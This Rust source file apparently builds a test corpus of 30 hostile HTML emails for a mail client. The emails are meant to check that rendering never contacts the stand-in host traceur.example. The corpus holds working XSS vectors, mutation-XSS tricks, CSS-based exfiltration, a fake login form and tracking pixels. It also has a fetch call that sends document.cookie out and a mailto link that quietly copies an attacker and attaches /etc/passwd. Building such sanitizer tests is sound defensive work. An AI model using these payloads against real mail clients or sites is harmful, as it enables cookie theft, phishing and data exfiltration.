//! Letters that attack who reads them: what runs, what fetches, what sends; every address in them is under one host, so that a
//! test can watch the wire.
//!
//! They stand in the junk folder of `agent.demo`, each with the subject `Corpus : <cas>`.

use super::people::outside;
use super::write::{Junk, Pen, With};
use super::{hostile_looks, hostile_sizes};
use crate::mail::letter::Letter;

/// What each subject begins with.
pub const SUBJECT: &str = "Corpus : ";

/// (case, HTML): `TRACE` stands for `https://traceur.example/<case>`.
#[rustfmt::skip]
const CASES: [(&str, &str); 30] = [
    ("script", "<p>Avant</p><script>fetch('TRACE?'+document.cookie)</script><script src=\"TRACE/a.js\"></script><SCRIPT\t>new Image().src='TRACE'</sCrIpT ><p>Après</p>"),
    ("gestionnaires", "<img src=x onerror=\"location='TRACE'\"><body onload=location='TRACE'><p onmouseover=\"location='TRACE'\" style=\"font-size:40px\">Passez ici</p><b/onclick=location='TRACE'>Cliquez</b><video onloadstart=location='TRACE'><source></video><details open ontoggle=location='TRACE'>a</details>"),
    ("svg", "<svg onload=\"location='TRACE'\"><script>location='TRACE'</script><image href=\"TRACE/i.png\"/><use href=\"TRACE/s.svg#a\"/><a href=\"javascript:location='TRACE'\"><text y=20>Lien</text></a><animate attributeName=href values=\"javascript:location='TRACE'\"/></svg><p>Après</p>"),
    ("style-exfiltration", "<style>@import url('TRACE/i.css');input[value^=a]{background:url(TRACE/a)}@font-face{font-family:x;src:url(TRACE/f)}body{background:url(TRACE/b)}</style><p style=\"background:url(TRACE/p)\">Un</p><p style=\"background-image:image-set('TRACE/is' 1x)\">Deux</p><p style=\"b\\61ckground:u\\72l(TRACE/e)\">Trois</p><p style=\"list-style:url(TRACE/l)\">Quatre</p><link rel=stylesheet href=\"TRACE/l.css\">"),
    ("formulaire", "<form action=\"TRACE/f\" method=post><p>Votre session a expiré.</p><input name=identifiant placeholder=Identifiant><input type=password name=mdp autofocus onfocus=\"location='TRACE'\"><button formaction=\"TRACE/b\">Se connecter</button><input type=image src=\"TRACE/i.png\"></form><isindex action=TRACE><textarea form=a>texte</textarea><select><option>a</select>"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=TRACE\"><meta http-equiv=Set-Cookie content=a=b><meta http-equiv=Content-Security-Policy content=\"default-src *\"><p>Vous allez être redirigé.</p>"),
    ("liens-javascript", "<p><a href=\"javascript:location='TRACE'\">un</a> <a href=\"JaVaScRiPt&colon;location='TRACE'\">deux</a> <a href=\"java&#x09;script&#58;location='TRACE'\">trois</a> <a href=\"&#1;javascript:location='TRACE'\">quatre</a> <a href=\"  java\nscript:location='TRACE'\">cinq</a> <a href=\"vbscript:msgbox(1)\">six</a> <a href=\"feed:javascript:alert(1)\">sept</a></p>"),
    ("liens-data", "<p><a href=\"data:text/html,<script>location='TRACE'</script>\">un</a> <a href=\"DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">deux</a> <a href=\"blob:TRACE/a\">trois</a> <a href=\"file:///etc/passwd\">quatre</a></p><img src=\"data:image/svg+xml,<svg onload=alert(1)>\"><img src=\"data:text/html;base64,AAAA\">"),
    ("cadres", "<iframe src=\"TRACE/c\"></iframe><iframe srcdoc=\"<script>parent.location='TRACE'</script>\"></iframe><frameset><frame src=\"TRACE/f\"></frameset><iframe srcdoc=\"&lt;iframe srcdoc='&amp;lt;img src=TRACE/n&amp;gt;'&gt;\"></iframe><portal src=\"TRACE/p\"></portal><p>Après les cadres</p>"),
    ("base", "<base href=\"TRACE/\" target=_top><p><a href=\"connexion\">Connexion</a> <a href=\"//traceur.example/base/x\">Sans schéma</a> <a href=\"/api/v1/session\">Chez nous</a></p><img src=\"logo.png\">"),
    ("objets", "<object data=\"TRACE/o.swf\"><embed src=\"TRACE/e\"></object><embed src=\"javascript:alert(1)\"><applet code=\"TRACE/A.class\"></applet><object type=\"text/html\" data=\"data:text/html,<script>location='TRACE'</script>\">Texte de remplacement</object><p>Après</p>"),
    ("medias", "<video src=\"TRACE/v.mp4\" poster=\"TRACE/p.jpg\" autoplay></video><audio src=\"TRACE/a.mp3\" autoplay></audio><picture><source srcset=\"TRACE/s.png\"><img srcset=\"TRACE/t.png 2x\" alt=\"Photo\"></picture><table background=\"TRACE/t.gif\"><tr><td background=\"TRACE/td.gif\">Cellule</td></tr></table><input type=image src=\"TRACE/i\">"),
    ("noscript", "<noscript><p title=\"</noscript><img src=x onerror=location='TRACE'>\"></noscript><p>Après</p>"),
    ("mathml", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=location='TRACE'&gt;\"></mglyph></table></mtext></math><form><math><mtext></form><form><mglyph><style></math><img src onerror=location='TRACE'></style></mglyph></form></mtext></math><p>Après</p>"),
    ("gabarit", "<template><script>location='TRACE'</script><img src=\"TRACE/t\"></template><div><template shadowrootmode=open><img src=\"TRACE/s\" onerror=alert(1)></template></div><p>Après</p>"),
    ("texte-brut", "<xmp><img src=x onerror=location='TRACE'></xmp><noembed><img src=x onerror=location='TRACE'></noembed><noframes><img src=x onerror=location='TRACE'></noframes><textarea></textarea><img src=x onerror=location='TRACE'></textarea><title><img src=x onerror=location='TRACE'></title><p>Après</p><plaintext><script>location='TRACE'</script>"),
    ("commentaires", "<!--><img src=x onerror=location='TRACE'>--><!--[if mso]><img src=\"TRACE/mso\"><script>location='TRACE'</script><![endif]--><!--!><script>location='TRACE'</script>--!><p>Visible</p><!-- jamais fermé <script>location='TRACE'</script>"),
    ("cdata", "<svg><![CDATA[<img src=x onerror=location='TRACE'>]]></svg><![CDATA[<script>location='TRACE'</script>]]><?xml version=\"1.0\"?><?php echo '<script>' ?><p>Après</p>"),
    ("attributs-ouverts", "<p>Avant</p><a href=\"TRACE/a\" title='jamais fermé><img src=x onerror=location=\"TRACE\"> <p>Avalé ?</p>"),
    ("balises-ouvertes", "<p>Avant</p><div><table><tr><td><b><a href=\"TRACE/b\"><font color=red><blockquote><pre><ul><li>Rien n’est fermé</b></td></div></table></p><h1>"),
    ("page-avalee", "</div></body></html><div></main></body><script>location='TRACE'</script><html><body onload=\"location='TRACE'\"><p>Dans une autre page</p></body></html></iframe></textarea></style></script><p>Après la fin</p>"),
    ("identifiants", "<p id=\"app\" name=\"body\" class=\"notice dialog\">a</p><form id=\"session\" name=\"cookie\"><input name=\"attributes\"></form><img name=\"getElementById\" id=\"location\" src=\"TRACE/i.png\"><a id=\"config\" name=\"config\" href=\"TRACE/cfg\">Configuration</a>"),
    ("style-attribut", "<p style=\"width:expression(location='TRACE');behavior:url(TRACE/h.htc);-moz-binding:url(TRACE/x.xml#a)\">Ancien</p><p style=\"color:red;/*\" title=\"*/background:url(TRACE/c)\">Commentaire</p><p style=\"font-family:'x;background:url(TRACE/q)\">Guillemets</p><p style=\"color:var(--a,url(TRACE/v))\">Variable</p><p style=\"content:attr(x url);cursor:url(TRACE/cur),auto\">Curseur</p>"),
    ("lien-prechargement", "<link rel=preload as=image href=\"TRACE/p.png\"><link rel=dns-prefetch href=\"//traceur.example\"><link rel=\"import\" href=\"TRACE/i.html\"><link rel=icon href=\"TRACE/f.ico\"><a href=\"TRACE/ping\" ping=\"TRACE/p\" download>Télécharger</a><p>Après</p>"),
    ("pixel-espion", "<p>Bonjour</p><img src=\"TRACE/ouvert.gif?qui=agent\" width=1 height=1><img src=\"http://traceur.example/pixel-espion/clair.gif\" alt=\"\"><img src=\"TRACE/cache.gif\" style=\"width:1px;height:1px\"><img src=\"TRACE/visible.png\" alt=\"Logo\" width=120 height=40><img src=\"cid:logo@traceur.example\" alt=\"Logo joint\">"),
    ("images-distantes", "<p>Trois images</p><img src=\"TRACE/1.png\" alt=\"Une\"><img src=\"TRACE/2.png\" alt=\"Deux\"><IMG SRC=`TRACE/3.png`><img src=\"https://traceur.example:8443/images-distantes/4.png\" width=999999 height=999999 alt=\"Quatre\"><img src=\"data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7\" alt=\"Point\">"),
    ("mailto", "<p><a href=\"mailto:victime@ville.example?subject=Urgent&amp;body=Mon%20mot%20de%20passe%20est&amp;bcc=vol@traceur.example&amp;attach=/etc/passwd\">Écrire au support</a> <a href=\"mailto:vol@traceur.example\">assistance.services@ville.example</a> <a href=\"mailto:%E2%80%AEelpmaxe.elliv@ecnatsissa\">Aide</a> <a href=\"tel:+33199001234\">Appeler</a> <a href=\"intent://traceur.example#Intent;end\">Ouvrir</a></p>"),
    ("retour-au-portail", "<p><a href=\"/api/v1/session\" target=_top>Se déconnecter</a> <a href=\"#main\" target=_parent>Contenu</a> <a href=\"?a\">Requête</a> <a href=\"TRACE/o\" target=_self rel=opener>Opener</a></p>"),
    ("encodage-utf7", "+ADw-script+AD4-location='TRACE'+ADw-/script+AD4-<p>%3Cscript%3Elocation='TRACE'%3C/script%3E</p><p>\u{ff1c}script\u{ff1e}location='TRACE'\u{ff1c}/script\u{ff1e}</p><p>&amp;lt;script&amp;gt;</p>"),
    ("balises-inconnues", "<x-app onclick=location='TRACE' is=\"a\"><custom style=\"position:fixed\">Contenu</custom></x-app><blink>a</blink><marquee onstart=location='TRACE'>Défile</marquee><keygen autofocus onfocus=location='TRACE'><dialog open>Fenêtre</dialog><div popover contenteditable draggable=true>Boîte</div>"),
];

/// Who sends them.
const SENDER: (&str, &str) = ("Expéditeur hostile", "attaque@traceur.example");

/// All of them.
pub fn letters(pen: &Pen) -> Vec<Letter> {
    let mut letters: Vec<Letter> = CASES
        .iter()
        .map(|(case, html)| {
            let trace = format!("https://traceur.example/{case}");
            blank(pen, case).html(html.replace("TRACE", &trace))
        })
        .collect();
    letters.extend(hostile_looks::letters(pen));
    letters.extend(hostile_sizes::letters(pen));
    for (number, letter) in letters.iter_mut().enumerate() {
        let hour = u32::try_from(number % 24).unwrap_or_default();
        letter.at = pen.at(60, (hour, u32::try_from(number).unwrap_or_default() % 60));
    }
    letters
}

/// A letter of the corpus without words.
pub fn blank(pen: &Pen, case: &str) -> Letter {
    let who = outside(SENDER.0, SENDER.1);
    let letter = pen.blank(Junk, pen.at(60, (0, 0)), who);
    letter.subject(format!("{SUBJECT}{case}"))
}
